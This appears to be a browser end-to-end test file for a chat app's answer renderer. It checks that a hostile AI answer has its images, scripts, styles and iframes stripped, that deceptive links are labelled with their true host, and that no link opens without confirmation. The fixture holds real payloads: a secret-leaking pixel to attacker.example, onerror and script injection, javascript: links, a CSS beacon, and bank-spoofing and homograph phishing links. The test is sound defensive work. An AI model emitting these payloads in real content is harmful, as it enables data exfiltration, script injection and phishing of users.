import { beforeAll, expect, test } from 'vitest';
import { ask, findAccessibilityProblems, logIn } from './journey-steps.ts';
import { openPage } from './open-page.ts';
import { type SharedApp, sharedAppWithCloud } from './start-app.ts';

const HOSTILE = `Look:

![a secret in the address](https://attacker.example/pixel.png?leak=secret)

<img src="https://attacker.example/raw.png" onerror="window.wasRun = true"><script>window.wasRun = true</script>

[press me](javascript:window.wasRun=true) [or me](data:text/html,<script>1</script>)

<style>body{background:url(https://attacker.example/style.png)}</style>

<iframe src="https://attacker.example/frame"></iframe>

[an honest link](https://example.org/page)

[https://bank.example](https://evil.example/?q=secret) https://bank.example@evil.example/ [your bank](http://127.0.0.1:18999/?q=secret) https://plain.example/a

[b\u0430nk](https://b\u0430nk.example/)

The end.`;

let app: SharedApp;
beforeAll(async () => {
  ({ app } = await sharedAppWithCloud(() => HOSTILE));
});

test('an answer that tries to load, run or lure loads nothing, runs nothing, and keeps honest links only', async () => {
  const { page, screenshot, close } = await openPage();
  await logIn(page, app, await app.register());
  await ask(page, 'What is the capital of Portugal?');
  const answer = page.getByRole('article', { name: 'Alcove' });
  await answer.getByText('The end.').waitFor();
  expect(await answer.locator('img, script, style, iframe').count()).toBe(0);
  const targets = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
  expect(targets).toEqual([
    ['https://attacker.example/pixel.png?leak=secret', 'noopener noreferrer'],
    ['https://example.org/page', 'noopener noreferrer'],
    ['https://evil.example/?q=secret', 'noopener noreferrer'],
    ['https://bank.example@evil.example/', 'noopener noreferrer'],
    ['http://127.0.0.1:18999/?q=secret', 'noopener noreferrer'],
    ['https://plain.example/a', 'noopener noreferrer'],
    ['https://xn--bnk-6cd.example/', 'noopener noreferrer'],
  ]);
  expect(await answer.getByRole('link').allTextContents()).toEqual([
    'a secret in the address (attacker.example)',
    'an honest link (example.org)',
    'https://bank.example (evil.example)',
    'https://bank.example@evil.example/ (evil.example)',
    'your bank (127.0.0.1:18999)',
    'https://plain.example/a',
    'b\u0430nk (xn--bnk-6cd.example)',
  ]);
  expect(await page.evaluate('window.wasRun')).toBeUndefined();
  await screenshot('hostile-answer');
  // Fails when anything but this machine was asked for anything.
  await close();
});

test('a link is followed after a yes to its host and its whole address, however it is pressed', async () => {
  const { page, close } = await openPage();
  await logIn(page, app, await app.register());
  await ask(page, 'What is the capital of Spain?');
  const answer = page.getByRole('article', { name: 'Alcove' });
  const link = answer.getByRole('link', { name: 'your bank (127.0.0.1:18999)' });
  const opened: string[] = [];
  await page.context().route('http://127.0.0.1:18999/**', (route) => {
    opened.push(route.request().url());
    return route.fulfill({ body: 'There.', contentType: 'text/plain' });
  });
  const asked = page.getByRole('dialog', { name: 'Open 127.0.0.1:18999?' });
  for (const press of [
    () => link.click(),
    () => link.click({ button: 'middle' }),
    () => link.click({ modifiers: ['ControlOrMeta'] }),
    () => link.press('Enter'),
  ]) {
    await press();
    await asked.getByText('http://127.0.0.1:18999/?q=secret').waitFor();
    // Enter pressed without reading opens nothing.
    await page.keyboard.press('Enter');
    await asked.waitFor({ state: 'hidden' });
  }
  expect([opened, page.context().pages().length]).toEqual([[], 1]);
  await link.click();
  await asked.waitFor();
  expect(await findAccessibilityProblems(page)).toEqual([]);
  const other = page.context().waitForEvent('page');
  await asked.getByRole('button', { name: 'Open' }).click();
  await (await other).waitForLoadState();
  expect(opened).toEqual(['http://127.0.0.1:18999/?q=secret']);
  await (await other).close();
  await close();
});
